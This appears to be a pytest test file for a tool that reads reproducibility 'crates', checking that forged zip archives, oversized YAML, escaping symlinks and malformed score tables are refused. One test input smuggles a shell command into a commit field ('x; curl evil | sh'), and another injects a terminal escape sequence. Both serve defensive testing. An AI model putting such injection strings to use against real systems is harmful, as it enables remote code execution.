"""Hostile crates are refused in one sentence, and nothing outside of the run's folder changes."""

import json
import os
import zipfile
from pathlib import Path

import pytest

import reproduce
from crates import TABLE, forge_crate, read_contents, write_page, write_page_with_crate, write_zip
from dj2mgm.errors import InputError
from dj2mgm.provenance import crate_files, crate_reader
from dj2mgm.provenance.allowed_folders import AllowedFolders
from dj2mgm.provenance.crate_reader import open_crate
from dj2mgm.provenance.crate_writer import write_crate
from dj2mgm.provenance.differences import check_inputs, check_recorded, parse_comparison
from dj2mgm.provenance.reproduction_folder import write_reproduction_folder
from dj2mgm.records.crate_records import CrateRecord
from dj2mgm.runs import all_runs
from dj2mgm.runs.all_runs import Runs
from dj2mgm.settings.config_files import read_config
from dj2mgm.storage.files import can_be_path, find_files
from paths import PROJECT


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> Path:
    """Make a folder with a finished page and its crate, which tests do not change."""
    return write_page_with_crate(tmp_path_factory.mktemp("page"))


@pytest.fixture
def crate(page, monkeypatch) -> Path:
    monkeypatch.chdir(page)
    return page / "run.crate.zip"


def read_run_json(crate: Path) -> dict:
    return json.loads(read_contents(crate)["run.json"])


def read_record(crate: Path) -> CrateRecord:
    with open_crate(crate) as opened:
        return opened.record


def refusal(path: Path) -> str:
    """Return the message with which opening a crate is refused."""
    with pytest.raises(InputError) as error, open_crate(path):
        pass
    assert len(str(error.value)) < 1500
    return str(error.value)


@pytest.mark.parametrize(
    "values",
    [
        {"page": "baseline/report\n"},
        {"commit": "x; curl evil | sh"},
        {"commit": "\x1b]0;x\x07"},
        {"versions": {f"p{number}": ["1"] for number in range(1001)}},
        {"versions": {"torch": ["1" * 201]}},
        {"machine": {"system": "x" * 10_000}},
        {"machine": {"cores": 10**30}},
        {"machine": {"memory_gib": float("nan")}},
        {"machine": {"memory_gib": float("inf")}},
        {"inputs": [{"found_at": "x" * 10_000}]},
        {"inputs": [{"bytes": 10**4000}]},
    ],
    ids=lambda values: str(values)[:40],
)
def test_a_record_cannot_flood_the_terminal_or_reach_a_shell(crate, tmp_path, values):
    record = read_run_json(crate)
    for key, value in values.items():
        if key == "machine":
            value = record["machine"] | value
        if key == "inputs":
            value = [record["inputs"][0] | value[0]]
        record[key] = value
    message = refusal(forge_crate(crate, tmp_path / "x.zip", {"run.json": json.dumps(record).encode()}))
    assert "run.json" in message


def test_crate_of_a_large_folder_of_images_is_read(crate, tmp_path):
    record = read_run_json(crate)
    record["inputs"] = [record["inputs"][0] | {"given": f"/data/{number}.jpg"} for number in range(100_000)]
    changed = forge_crate(crate, tmp_path / "large.zip", {"run.json": json.dumps(record, indent=2).encode()})
    with open_crate(changed) as opened:
        assert len(opened.record.inputs) == 100_000


@pytest.mark.parametrize("name", ["a" * 300, "a/" * 600 + "x", "ä" * 130])
def test_a_name_that_no_file_system_accepts_is_refused(crate, tmp_path, name):
    message = refusal(forge_crate(crate, tmp_path / "x.zip", {f"config/{name}.yaml": b"{}"}))
    assert "is not a valid file name in a crate" in message


def test_too_many_configuration_files_or_bytes_are_refused(crate, tmp_path, monkeypatch):
    monkeypatch.setattr(crate_files, "MAX_CONFIGS", 100)
    many = {f"config/experiments/e{number}.yaml": b"" for number in range(101)}
    assert "at most 100 files" in refusal(forge_crate(crate, tmp_path / "many.zip", many))
    large = {f"config/datasets/d{number}.yaml": b"#" * 1_000_000 for number in range(5)}
    assert "4194304 bytes" in refusal(forge_crate(crate, tmp_path / "large.zip", large))


def test_an_unreadable_crate_is_not_written(monkeypatch):
    monkeypatch.setattr(crate_files, "MAX_CONFIGS", 10)
    with pytest.raises(InputError, match="a crate has at most 10 files and .*; move unused files elsewhere"):
        crate_files.list_config_files()


def test_too_large_metadata_is_not_parsed(crate, tmp_path):
    large = {"ro-crate-metadata.json": b'{"a": [' + b"[]," * (crate_reader.MAX_JSON_BYTES // 3) + b"1]}"}
    assert "ro-crate-metadata.json is larger" in refusal(write_zip(tmp_path / "x.zip", read_contents(crate) | large))


def test_a_too_long_list_of_members_is_not_read(tmp_path, monkeypatch):
    monkeypatch.setattr(crate_reader, "MAX_DIRECTORY_BYTES", 100_000)
    path = write_zip(tmp_path / "x.zip", {f"file{number}": b"" for number in range(3000)})
    assert "its list of files is longer than that of any crate" in refusal(path)


def test_zip_names_that_are_not_utf_8_are_refused(crate, tmp_path):
    path = tmp_path / "x.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("ä.txt", b"")
    path.write_bytes(path.read_bytes().replace("ä".encode(), b"\xff\xff"))
    assert "is not a readable zip file" in refusal(path)


@pytest.mark.parametrize("name", ["a" * 300, "a/" * 5000])
def test_an_impossible_path_is_not_a_crate(name):
    assert "cannot be read (File name too long)" in refusal(Path(name))


@pytest.mark.parametrize("kind", ["pipe", "link", "gone", "sparse", "folder"])
def test_changes_of_a_folder_during_reading_are_noticed(crate, tmp_path, monkeypatch, kind):
    folder = tmp_path / "crate"
    with zipfile.ZipFile(crate) as archive:
        archive.extractall(folder)
    file, check = folder / "LICENSE", crate_reader._check_name

    def change(path: Path, name: str) -> None:
        check(path, name)
        if kind == "sparse":
            os.truncate(file, 1 << 40)
            return
        file.unlink(missing_ok=True)
        if kind == "pipe":
            os.mkfifo(file)
        elif kind == "link":
            file.symlink_to("/dev/zero")
        elif kind == "folder":
            file.mkdir()
        monkeypatch.setattr(crate_reader, "_check_name", check)

    monkeypatch.setattr(crate_reader, "_check_name", change)
    assert "LICENSE" in refusal(folder)


@pytest.mark.parametrize("text", ["a" * 256, "a/" * 3000, "a\0b", "\ud800"])
@pytest.mark.parametrize("key", ["configured_path", "file"])
def test_an_input_with_an_impossible_path_is_refused(crate, key, text):
    changes = {"configured_path": "my phötos", "file": ""} | {key: text}
    assert not can_be_path(text)
    with pytest.raises(InputError, match="is not a path of a file|leads out of it"):
        check_inputs([read_record(crate).inputs[0].model_copy(update=changes)], AllowedFolders(Path.cwd()))


def test_an_input_must_be_named_once(crate):
    with pytest.raises(InputError, match="names the input .*captions.jsonl twice"):
        check_inputs(read_record(crate).inputs * 2, AllowedFolders(Path.cwd()))


@pytest.mark.parametrize("key", ["dataset", "evaluate", "model"])
def test_a_setting_with_an_impossible_path_is_refused(crate, tmp_path, key):
    name, values = "experiments/baseline.yaml", {"dataset": "a" * 300}
    if key == "evaluate":
        values = {"evaluate": {"judge_clip": "./" + "a/" * 5000}}
    if key == "model":
        name = "models/tiny.yaml"
        values = read_config(PROJECT / "config" / name) | {"clip": "ä" * 200}
    changes = {f"config/{name}": json.dumps(values).encode()}
    changes["run.json"] = json.dumps(read_run_json(crate) | {"command_line": {}}).encode()
    with open_crate(forge_crate(crate, tmp_path / "x.zip", changes)) as opened:
        with pytest.raises(InputError, match=r"names '.*…a*.*, which is not a path of a file"):
            write_reproduction_folder(opened, tmp_path / "made", AllowedFolders(Path.cwd()))
    with pytest.raises(InputError, match="of names of up to 255 bytes"):
        Runs({"dataset": "a" * 300})  # the user's own configuration


def test_a_pattern_with_an_endless_search_is_refused(tmp_path):
    deep = tmp_path / "a/b/c"
    deep.mkdir(parents=True)
    (deep / "x.jsonl").touch()
    assert find_files(f"{tmp_path}/**/**/**/**/**/*.jsonl", [".jsonl"]) == [deep / "x.jsonl"]
    with pytest.raises(InputError, match=r"may contain \*\* at most 2 times"):
        find_files(f"{tmp_path}/**/a/**/b/**/*.jsonl", [".jsonl"])


@pytest.mark.parametrize(
    "text",
    [
        "a: &a {" + ", ".join(f"k{n}: 1" for n in range(2000)) + "}\nb: {<<: [" + "*a," * 200 + "*a]}",
        "a: &a {" + ", ".join(f"k{n}: 1" for n in range(2000)) + "}\nb: [" + "{<<: *a}," * 200 + "1]",
    ],
    ids=["in one mapping", "in many"],
)
def test_merged_yaml_mappings_do_not_exhaust_memory(tmp_path, text):
    (tmp_path / "x.yaml").write_text(text)
    with pytest.raises(InputError, match="<< brings more than 100000 keys"):
        read_config(tmp_path / "x.yaml")


def test_a_file_with_too_many_values_is_not_read_completely(tmp_path, monkeypatch):
    monkeypatch.setattr("dj2mgm.settings.config_files.MAX_VALUES", 100)
    (tmp_path / "x.yaml").write_text("a: [" + "[]," * 201 + "1]\n!wrong")
    with pytest.raises(InputError, match="more than 100 values"):
        read_config(tmp_path / "x.yaml")


def test_more_runs_than_can_be_resolved_are_refused(monkeypatch):
    monkeypatch.setattr(all_runs, "MAX_RUNS", 10)
    with pytest.raises(InputError, match="have [0-9]+ runs, but at most 10"):
        Runs({"seeds": list(range(11))})


@pytest.mark.parametrize("lacking", ["config/config.yaml", "config/experiments/baseline.yaml"])
def test_the_clones_configuration_does_not_replace_the_crates(crate, tmp_path, lacking):
    files = read_contents(crate)
    del files[lacking]
    metadata = json.loads(files["ro-crate-metadata.json"])
    metadata["@graph"] = [entity for entity in metadata["@graph"] if entity["@id"] != lacking]
    files["ro-crate-metadata.json"] = json.dumps(metadata).encode()
    with open_crate(write_zip(tmp_path / "x.zip", files)) as opened:
        with pytest.raises(InputError, match=f"the crate holds no {lacking}"):
            write_reproduction_folder(opened, tmp_path / "made", AllowedFolders(Path.cwd()))


def test_recorded_experiment_without_configuration_is_refused(crate, tmp_path):
    record = json.dumps(read_run_json(crate) | {"experiments": ["baseline", "gone"]}).encode()
    with open_crate(forge_crate(crate, tmp_path / "x.zip", {"run.json": record})) as opened:
        with pytest.raises(InputError, match="the crate holds no config/experiments/gone.yaml"):
            write_reproduction_folder(opened, tmp_path / "made", AllowedFolders(Path.cwd()))


def test_existing_files_in_the_runs_folder_are_not_used(crate, tmp_path):
    outside, made = tmp_path / "outside", tmp_path / "made"
    outside.mkdir()
    made.mkdir()
    (outside / "config.yaml").write_text("decoy")
    (made / "config").symlink_to(outside)
    with open_crate(crate) as opened:
        write_reproduction_folder(opened, made, AllowedFolders(Path.cwd()))
        assert [path.name for path in outside.iterdir()] == ["config.yaml"]
        assert (outside / "config.yaml").read_text() == "decoy"
        (made / "config/experiments/more.yaml").write_text("seeds: [7]")
        assert "more" not in write_reproduction_folder(opened, made, AllowedFolders(Path.cwd())).experiments.names


@pytest.mark.parametrize("name", ["", "command_line.json/x"])
def test_an_unwritable_folder_is_reported_in_one_sentence(crate, tmp_path, name):
    made = tmp_path / "made"
    if name:
        (made / name).mkdir(parents=True)
    else:
        made.write_text("a file")
    with open_crate(crate) as opened:
        with pytest.raises(InputError, match="made cannot be filled: .*(Is a|Not a) directory; free space, or delete"):
            write_reproduction_folder(opened, made, AllowedFolders(Path.cwd()))


@pytest.mark.parametrize(
    ("key", "sentence"), [("images", "the images of the dataset my phötos"), ("inputs", "captions")]
)
def test_crate_without_digests_of_inputs_is_refused(crate, tmp_path, key, sentence):
    with open_crate(crate) as opened:
        runs = write_reproduction_folder(opened, tmp_path, AllowedFolders(Path.cwd()))
        record, datasets = opened.record, runs.datasets
    images = [record.images[0].model_copy(update={"dataset": "my phötos"})]
    record = record.model_copy(update={"images": images})
    check_recorded(record, datasets, AllowedFolders(Path.cwd()))
    with pytest.raises(InputError, match=f"the crate has no digest of .*{sentence}"):
        check_recorded(record.model_copy(update={key: []}), datasets, AllowedFolders(Path.cwd()))


@pytest.mark.parametrize("name", ["metrics.json", "config.yaml", "folder"])
def test_a_crate_omits_the_targets_of_links_in_results(tmp_path, monkeypatch, name):
    monkeypatch.chdir(tmp_path)
    settings = write_page()
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "key.json").write_text("{}")
    link = Path("results/baseline/finetune", name)
    link.unlink(missing_ok=True)
    link.symlink_to(secret if name == "folder" else secret / "key.json")
    with pytest.raises(InputError, match="results/baseline/finetune/.* is a link out of its folder"):
        write_crate(settings, Path("run.crate.zip"))
    assert not Path("run.crate.zip").exists()


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (TABLE.replace("0.5,", "nan,"), "nan is not a score"),
        (TABLE.replace("0.5,", "inf,"), "inf is not a score"),
        (TABLE.replace("0.6,", ","), "has only one end of an interval"),
        (TABLE.replace("0.4,", ","), "has only one end of an interval"),
        (TABLE + TABLE.splitlines()[1] + "\n", "baseline finetune/own clip_score is repeated"),
        (TABLE.splitlines()[0] + "\n", "has no scores"),
        ("", "has no scores"),
        (TABLE + "baseline,1\n", "is not a table of scores"),
        (TABLE + '"baseline', "is not a table of scores"),
    ],
)
def test_an_inconsistent_table_is_refused(content, problem):
    with pytest.raises(InputError, match=problem):
        parse_comparison(content.encode(), "x")
    with pytest.raises(InputError, match="is not a table of scores"):
        parse_comparison(TABLE.encode("utf-16"), "x")


def test_a_crate_without_a_table_of_scores_is_refused_early(crate, tmp_path, monkeypatch):
    monkeypatch.setattr(reproduce, "run_targets", lambda *_: pytest.fail("it ran"))
    table = {"results/baseline/report/comparison.csv": TABLE.replace("0.5,", "nan,").encode()}
    with open_crate(forge_crate(crate, tmp_path / "x.zip", table)) as opened:
        with pytest.raises(InputError, match="x.zip: results/baseline/report/comparison.csv is not a table of scores"):
            reproduce.reproduce(opened, [], AllowedFolders(Path.cwd()))


def test_a_crate_is_not_reproduced_in_its_own_folder(crate, tmp_path, monkeypatch):
    (tmp_path / "crate/inside").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "crate/inside")
    for path in (Path(".."), tmp_path / "crate"):
        with pytest.raises(InputError, match="the current folder is inside of the crate"):
            reproduce.check_is_elsewhere(path)
    reproduce.check_is_elsewhere(tmp_path / "crate/inside/run.crate.zip")
